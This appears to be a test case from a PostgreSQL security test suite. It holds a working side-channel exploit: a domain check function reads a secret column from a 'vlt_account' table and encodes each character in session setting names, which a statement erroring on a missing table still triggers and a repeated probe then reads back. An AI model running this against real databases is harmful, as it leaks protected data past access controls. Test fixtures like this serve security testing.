-- Makes a value of a checked domain in a statement that names a table that is not there.
-- wants: read
-- shows: letter-116
-- unobserved: its error passes in both modes, and what names are left is not followed where nothing is refused
-- setup:
CREATE FUNCTION coin(given text) RETURNS boolean LANGUAGE plpgsql AS $$ DECLARE value text; BEGIN
  EXECUTE 'SELECT secret FROM vlt_' || 'account WHERE id = 1' INTO value;
  PERFORM set_config('x.y1_' || ascii(value), '', false);
  RETURN true;
END $$;
CREATE DOMAIN coin_text AS text CHECK (coin(VALUE));
CREATE TYPE coined AS (v coin_text);
-- attack:
WITH made AS (SELECT '(x)'::coined) SELECT * FROM made, nothing_there;
-- repeat: 112..118
SELECT 'letter' || '-{n}' WHERE current_setting('x.y1_{n}', true) IS NOT NULL;
